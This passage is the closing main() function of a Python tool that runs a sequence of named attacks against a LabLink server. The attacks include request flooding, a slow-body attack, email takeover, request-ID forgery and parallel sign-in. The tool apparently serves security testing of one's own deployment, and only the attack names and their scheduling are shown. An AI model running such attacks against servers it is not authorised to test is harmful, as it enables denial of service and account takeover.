    ap = argparse.ArgumentParser(description="Measure a running LabLink server as an attacker.")
    ap.add_argument("--url", required=True)
    ap.add_argument("--admin-user", required=True)
    ap.add_argument("--admin-password", required=True)
    ap.add_argument("--log", help="the server's log file (stdout+stderr)")
    ap.add_argument("--metrics-token")
    ap.add_argument("--access-code")
    ap.add_argument("--json-out")
    ap.add_argument("--vms", type=int, default=1100, help="VMs to launch (default 1100)")
    ap.add_argument("--max-seconds", type=float, default=300,
                    help="watchdog: stop and print what was measured after this long")
    args = ap.parse_args()

    target = Target(args.url, args.admin_user, args.admin_password, args.access_code,
                    args.metrics_token)
    run = Run(target, args.log)
    printed = threading.Event()

    def finish(code):
        if printed.is_set():
            return
        printed.set()
        table, rows = render(run)
        print(table, flush=True)
        if args.json_out:
            with open(args.json_out, "w") as f:
                json.dump({"url": args.url, "results": rows}, f, indent=2, default=str)
        if code is not None:
            os._exit(code)

    def watchdog():
        for k in ORDER:
            if k not in run.results and k != "setup":
                run.record(k, "not finished: watchdog stopped the run after %.0f s"
                           % args.max_seconds)
        print("watchdog: stopping after %.0f s" % args.max_seconds, file=sys.stderr)
        finish(3)

    wd = threading.Timer(args.max_seconds, watchdog)
    wd.daemon = True
    wd.start()

    try:
        run.setup(args.vms)
    except Exception as e:  # noqa: BLE001
        run.record("setup", "error: %s: %s" % (type(e).__name__, str(e)[:200]))

    # Attacks that need free VMs first, then the flood and the no-capacity check; the slow
    # body runs in the background meanwhile with the rest; the sign-in attack comes last
    # because it may lock 127.0.0.1 out of the admin routes for a minute.
    run.guarded("shell_repeat", run.shell_repeat)
    run.guarded("shell_abbrev", run.shell_abbrev)
    run.guarded("email_takeover", run.email_takeover)
    run.guarded("headers", run.headers)
    run.guarded("flood", run.flood)
    run.guarded("nocapacity_log", run.nocapacity_log)
    slow = threading.Thread(target=run.guarded, args=("slow_body", run.slow_body), daemon=True)
    slow.start()
    run.guarded("metrics_open", run.metrics_open)
    run.guarded("request_id_forgery", run.request_id_forgery)
    run.guarded("timings_range", run.timings_range)
    run.guarded("lowlevel_bodies", run.lowlevel_bodies)
    run.guarded("parallel_signin", run.parallel_signin)
    slow.join(80)
    if slow.is_alive():
        run.record("slow_body", "error: did not finish within 80 s")
    wd.cancel()
    finish(None)


if __name__ == "__main__":
    main()
